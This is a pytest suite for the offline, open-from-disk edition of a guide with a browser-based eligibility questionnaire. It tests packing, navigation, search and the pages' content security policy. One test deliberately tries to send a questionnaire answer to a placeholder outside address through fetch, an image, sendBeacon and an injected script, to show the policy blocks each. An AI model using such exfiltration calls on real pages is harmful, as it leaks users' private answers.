"""The offline edition, unpacked on a disk and opened from there, in Chromium, Firefox and WebKit.

There is no server here: what a browser forbids a page from a disk, it forbids in these tests.
"""

from __future__ import annotations

import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from checker.web.offline import FOLDER, MOST_BYTES, OfflineError, packed
from tests.support.paths import DOCS, PROJECT
from tests.support.readers import DESKTOP, PHONE, Browse, Reader, by_webdriver
from tests.support.site import NEUTRAL
from tests.support.situations import story

IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 Version/17.0 Mobile/15E148 Safari"

WATCH = """
window.seen = { scripts: [], forbidden: [], errors: [] };
addEventListener("securitypolicyviolation", (event) => seen.forbidden.push(event.effectiveDirective));
addEventListener("error", (event) => seen.errors.push(event.message ?? event.target.src ?? event.target.href), true);
addEventListener("unhandledrejection", (event) => seen.errors.push(String(event.reason)));
new MutationObserver((changes) => {
  for (const node of changes.flatMap((change) => [...change.addedNodes])) {
    if (node.localName === "script" && node.src) {
      seen.scripts.push(node.src.slice(node.src.lastIndexOf("/") + 1));
    }
  }
}).observe(document, { childList: true, subtree: true });
"""
"""Runs first in every page, and notes what happens there. WebDriver alone cannot look before a page has loaded."""

AWAY = "https://example.invalid/away"
"""An address outside, which belongs to nobody."""

NOTHING: dict[str, list[str]] = {"scripts": [], "forbidden": [], "errors": []}

POLICY_END = "form-action 'none'; base-uri 'none'\">"


def run_offline(*arguments: str, **environment: str) -> subprocess.CompletedProcess[str]:
    """Run the command that `make offline` runs."""
    command = [sys.executable, "-m", "checker.web.offline", *arguments]
    return subprocess.run(
        command, cwd=PROJECT, env=os.environ | environment, capture_output=True, text=True, check=False
    )


@pytest.fixture(scope="session")
def packed_edition(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The zip."""
    path = tmp_path_factory.mktemp("offline") / "edition.zip"
    done = run_offline(str(path))
    assert done.returncode == 0, done.stderr
    return path


@pytest.fixture(scope="session")
def edition(packed_edition: Path, tmp_path_factory: pytest.TempPathFactory) -> str:
    """The address of the folder that the zip holds, unpacked as people's folders are called."""
    folder = tmp_path_factory.mktemp("disk") / "Téléchargements de Zoë"
    zipfile.ZipFile(packed_edition).extractall(folder)
    return (folder / FOLDER).as_uri() + "/"


@pytest.fixture(scope="session")
def watched_edition(packed_edition: Path, tmp_path_factory: pytest.TempPathFactory) -> str:
    """The same with WATCH in every page of the guide, after its content policy, which stays what it is."""
    folder = tmp_path_factory.mktemp("watched") / "My files, 100%"
    zipfile.ZipFile(packed_edition).extractall(folder)
    (folder / FOLDER / "watch.js").write_text(WATCH, encoding="utf-8")
    for name in pages_in(packed_edition):
        page = folder / FOLDER / name
        html = page.read_text(encoding="utf-8")
        assert html.count(POLICY_END) == 1
        page.write_text(html.replace(POLICY_END, f'{POLICY_END}<script src="watch.js"></script>'), encoding="utf-8")
    return (folder / FOLDER).as_uri() + "/"


def names_in(packed_edition: Path) -> list[str]:
    """The files in the zip."""
    return zipfile.ZipFile(packed_edition).namelist()


def pages_in(packed_edition: Path) -> list[str]:
    """The pages of the guide in the zip, without their folder."""
    names = [name.removeprefix(f"{FOLDER}/") for name in names_in(packed_edition) if name.endswith(".html")]
    return [name for name in names if name != NEUTRAL]


# The zip


def test_two_zips_are_the_same(packed_edition: Path, tmp_path: Path) -> None:
    """In another time zone and language, and for a site that is published at some address."""
    path = tmp_path / "other.zip"
    done = run_offline(str(path), TZ="America/Lima", LC_ALL="de_DE.UTF-8", SITE_URL="https://parole.example.org/")
    assert done.returncode == 0, done.stderr
    assert path.read_bytes() == packed_edition.read_bytes()


def test_the_date_of_the_commit_is_the_date_of_the_files(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """A reader sees how old a copy is; without a commit, they get the earliest date that a zip knows."""
    (tmp_path / "index.html").write_text("home")
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1795449600")
    assert dates(tmp_path) == {(2026, 11, 23, 16, 0, 0)}
    monkeypatch.delenv("SOURCE_DATE_EPOCH")
    assert dates(tmp_path) == {(1980, 1, 1, 0, 0, 0)}


def dates(site: Path) -> set[tuple[int, ...]]:
    """The dates of the files that are packed."""
    return {entry.date_time for entry in zipfile.ZipFile(io.BytesIO(packed(site)[0])).infolist()}


def test_the_zip_has_one_folder_that_everyone_may_read(packed_edition: Path) -> None:
    """Files only, in order; nothing that only hosts and developers need."""
    with zipfile.ZipFile(packed_edition) as archive:
        names = archive.namelist()
        assert names == sorted(names)
        assert {name.split("/")[0] for name in names} == {FOLDER}
        assert {entry.external_attr >> 16 for entry in archive.infolist()} == {0o100644}
        assert sum(entry.file_size for entry in archive.infolist()) <= MOST_BYTES
    assert not [name for name in names if name.endswith((".map", "404.html", ".gz")) or "/lunr/" in name]


def test_every_page_of_the_site_is_in_the_zip(packed_edition: Path) -> None:
    """Those of docs/, but for the maintainers' notes; and the one for those who leave the questionnaire fast."""
    assert {f"{path.stem}.html" for path in DOCS.glob("*.md")} == set(pages_in(packed_edition))
    assert f"{FOLDER}/{NEUTRAL}" in names_in(packed_edition)


def test_an_edition_that_is_too_large_is_refused(tmp_path: Path) -> None:
    """The message names the largest file."""
    (tmp_path / "index.html").write_text("home")
    (tmp_path / "picture.png").write_bytes(bytes(MOST_BYTES))
    with pytest.raises(OfflineError, match=r"picture\.png"):
        packed(tmp_path)


@pytest.mark.parametrize(
    ("page", "content"),
    [
        ("deep/page.html", '<a href="../404.html#top">lost</a>'),
        ("page.html", '<script src="assets/javascripts/lunr/min/lunr.es.min.js"></script>'),
        ("style.css", "p { background: url('sitemap.xml') }"),
    ],
)
def test_no_page_refers_to_what_is_left_out(tmp_path: Path, page: str, content: str) -> None:
    """A link that leads nowhere ends the making of the edition; the message names both files."""
    for name in ("404.html", "sitemap.xml", "assets/javascripts/lunr/min/lunr.es.min.js", page):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(content)
    with pytest.raises(OfflineError, match=page):
        packed(tmp_path)


# The pages, opened from a disk


def test_the_home_page_opens_with_its_styles(reader: Reader, edition: str) -> None:
    """Every style sheet is there and applies, every picture is shown."""
    reader.open(edition + "index.html")
    assert reader.run("return document.querySelector('h1').getClientRects().length") == 1
    sheets = "return [...document.querySelectorAll('link[rel=stylesheet]')].map((each) => each.sheet !== null)"
    assert set(reader.run(sheets)) == {True}
    assert reader.run("return getComputedStyle(document.querySelector('.md-header')).position") == "sticky"
    # The colour is of our own style sheet.
    own = "return getComputedStyle(document.body).getPropertyValue('--md-primary-fg-color').trim()"
    assert reader.run(own)
    assert all(reader.run("return [...document.images].map((each) => each.naturalWidth > 0)"))


def test_links_lead_from_the_first_page_to_the_last(reader: Reader, edition: str, packed_edition: Path) -> None:
    """The link at the foot of each page opens the next one, until all have been seen.

    Only the questionnaire has none: it would lead away from the answers. The walk goes on behind it.
    """
    reader.open(edition + "index.html")
    seen = [reader.run("return location.href")]
    onward = ".md-footer__link--next"
    while reader.run("return document.querySelector(arguments[0]) !== null", onward):
        reader.follow(onward)
        seen.append(reader.run("return location.href"))
        if seen[-1].endswith("/check.html"):
            reader.open(edition + "how-to-ask.html")
            seen.append(reader.run("return location.href"))
    assert sorted(seen) == sorted(edition + page for page in pages_in(packed_edition))


def test_a_link_in_the_text_leads_to_its_page(reader: Reader, edition: str) -> None:
    """And the logo leads home again."""
    reader.open(edition + "index.html")
    reader.follow("article a[href='check.html']")
    assert reader.run("return location.href") == edition + "check.html"
    reader.follow(".md-header a.md-logo")
    assert reader.run("return location.href") == edition + "index.html"


@pytest.mark.parametrize(
    ("size", "opener"), [(DESKTOP, ".md-search__input"), (PHONE, "label[for=__search]")], ids=["desktop", "phone"]
)
def test_the_search_finds_a_page_and_opens_it(reader: Reader, edition: str, size: tuple[int, int], opener: str) -> None:
    """By the words that people use, where a browser starts no worker from a disk."""
    reader.resize(*size)
    reader.open(edition + "glossary.html")
    # On a phone, the first of the labels lies over the page only while the search is open.
    reader.click(f".md-header__inner > {opener}" if size == PHONE else opener)
    reader.wait("return document.activeElement.matches('.md-search__input')")
    reader.type(".md-search__input", "free lawyer")
    link = ".md-search-result__item > .md-search-result__link[href*='get-help.html']"
    reader.wait("return document.querySelector(arguments[0])?.getClientRects().length", link)
    reader.follow(link)
    assert reader.run("return location.pathname").endswith("/get-help.html")


def test_light_and_dark_can_be_changed(reader: Reader, watched_edition: str) -> None:
    """The button changes the colours, there and back, and nothing throws.

    Firefox forgets the choice on the next page: what it keeps, it keeps for each file of a disk apart.
    """
    scheme = "document.body.dataset.mdColorScheme"
    reader.open(watched_edition + "index.html")
    first = reader.run(f"return {scheme}")
    for _ in range(2):
        before = reader.run(f"return {scheme}")
        reader.click("[data-md-component=palette] label:not([hidden])")
        reader.wait(f"return {scheme} !== arguments[0]", before)
    assert reader.run(f"return {scheme}") == first
    assert reader.run("return seen") | {"scripts": []} == NOTHING


# The questionnaire, opened from a disk


def wait_until_ready(reader: Reader) -> None:
    """Return when Python can answer; fails when it cannot start."""
    runtime = "document.forms.checker.dataset.runtime"
    state = reader.wait(f"return ['ready', 'failed'].includes({runtime}) && {runtime}")
    assert state == "ready", reader.run("return document.querySelector('#checker-status').textContent")


def pieces_fetched(reader: Reader) -> set[str]:
    """The names of the pieces of Python that the page has asked for."""
    scripts: list[str] = reader.run("return seen.scripts")
    return {script.split(".")[0] for script in scripts if script.split(".")[0] in PIECES}


PIECES = ("worker", "interpreter", "image", "library")
NEEDED = {"worker", "interpreter", "image"}
"""All but the library, from which Python starts where the image does not fit: more to read, and slower."""


@pytest.mark.parametrize("name", ["medical-everything-clean", "barred-no-waiver", "waiver-not-sure"])
def test_the_questionnaire_answers(reader: Reader, watched_edition: str, name: str) -> None:
    """Question by question, over the review, to the outcome worked out by hand; nothing large is read before."""
    case = story(name)
    reader.open(watched_edition + "check.html")
    assert reader.run("return document.forms.checker.dataset.runtime") == "idle"
    assert pieces_fetched(reader) == set()
    for question in case["outcome"]["ask"]:
        assert reader.run("return document.querySelector('[data-current]').dataset.question") == question
        reader.click(f"label:has(> input[name={question}][value={case['answers'][question]}])")
        reader.click("#checker-next")
        assert reader.run("return document.activeElement.matches('[data-current] .question__ask, #checker-review h3')")
    assert reader.run("return document.forms.checker.dataset.screen") == "review"
    reader.click("#check-answers")
    wait_until_ready(reader)
    assert reader.wait("return document.querySelector('#outcome').dataset.verdict") == case["outcome"]["verdict"]
    assert reader.run("return document.activeElement.id") == "outcome-heading"
    for kind in ("requirement", "risk", "document"):
        shown = "return [...document.querySelectorAll(`#outcome [data-${arguments[0]}]`)]"
        visible = ".filter((each) => each.getClientRects().length > 0)"
        entries = ".map((each) => [each.dataset[arguments[0]], each.dataset.status])"
        assert dict(reader.run(shown + visible + entries, kind)) == case["outcome"][f"{kind}s"]
    assert pieces_fetched(reader) == NEEDED


def test_python_starts_when_the_reader_says_so(reader: Reader, watched_edition: str) -> None:
    """Before any answer; and in every browser it goes on from the image."""
    reader.open(watched_edition + "check.html")
    assert pieces_fetched(reader) == set()
    reader.click("#checker-start button")
    wait_until_ready(reader)
    assert pieces_fetched(reader) == NEEDED


def test_python_starts_on_an_iphone(watched_edition: str) -> None:
    """There Pyodide calls Python's functions in another way, to which the image must be fitted."""
    with by_webdriver(f"--user-agent={IPHONE}") as reader:
        reader.open(watched_edition + "check.html")
        assert "iPhone" in reader.run("return navigator.userAgent")
        reader.click("#checker-start button")
        wait_until_ready(reader)
        assert pieces_fetched(reader) == NEEDED


def test_the_questionnaire_can_be_left_fast(reader: Reader, edition: str) -> None:
    """With the outcome shown; a page from a disk cannot take another's address, and goes there."""
    reader.open(edition + "glossary.html")
    reader.open(edition + "check.html")
    reader.click("label:has(> input[name=location])")
    reader.click("#checker-view")
    reader.click("#check-answers")
    reader.wait("return document.querySelector('#outcome').dataset.verdict")
    reader.follow("#leave")
    assert reader.run("return location.href") == edition + NEUTRAL
    assert reader.run("return document.querySelectorAll('input, form, script, #outcome').length") == 0
    assert reader.run("return getComputedStyle(document.querySelector('table')).borderCollapse") == "collapse"
    reader.back()
    assert reader.run("return location.href") == edition + "glossary.html"


# What a page may do


def test_no_page_does_what_its_policy_forbids(reader: Reader, watched_edition: str, packed_edition: Path) -> None:
    """While it opens, in every page; and in a whole session of the check and of the search."""
    for name in pages_in(packed_edition):
        reader.open(watched_edition + name)
        assert reader.run("return seen.scripts.length") > 0
        assert reader.run("return seen") | {"scripts": []} == NOTHING, name
    reader.open(watched_edition + "check.html")
    reader.click(".md-search__input")
    reader.type(".md-search__input", "passport")
    reader.wait("return document.querySelector('.md-search-result__link')?.getClientRects().length")
    reader.open(watched_edition + "check.html")
    reader.click("label:has(> input[name=location])")
    reader.click("#checker-view")
    reader.click("#check-answers")
    reader.wait("return document.querySelector('#outcome').dataset.verdict")
    assert reader.run("return seen") | {"scripts": []} == NOTHING


def test_answers_cannot_leave(browse: Browse, watched_edition: str) -> None:
    """Whatever way a script tries, the policy forbids it before the network hears of it."""
    with browse(noisy=True) as reader:
        reader.open(watched_edition + "check.html")
        reader.run("fetch(arguments[0]).catch(() => {})", AWAY)
        reader.run("new Image().src = arguments[0]", AWAY)
        reader.run("navigator.sendBeacon(arguments[0], 'location=inside_us')", AWAY)
        reader.run("document.body.append(Object.assign(document.createElement('script'), { src: arguments[0] }))", AWAY)
        reader.wait("return seen.forbidden.length >= 4")
        rules = reader.run("return seen.forbidden")
        assert {rule.removesuffix("-elem") for rule in rules} == {"connect-src", "img-src", "script-src"}


def test_the_watch_on_the_network_is_awake(browse: Browse, tmp_path: Path) -> None:
    """A page without a policy, which asks a server for a picture, is found out."""
    page = tmp_path / "page.html"
    page.write_text(f"<img src='{AWAY}'>")
    with pytest.raises(AssertionError, match=r"example\.invalid"), browse(noisy=True) as reader:
        reader.open(page.as_uri())
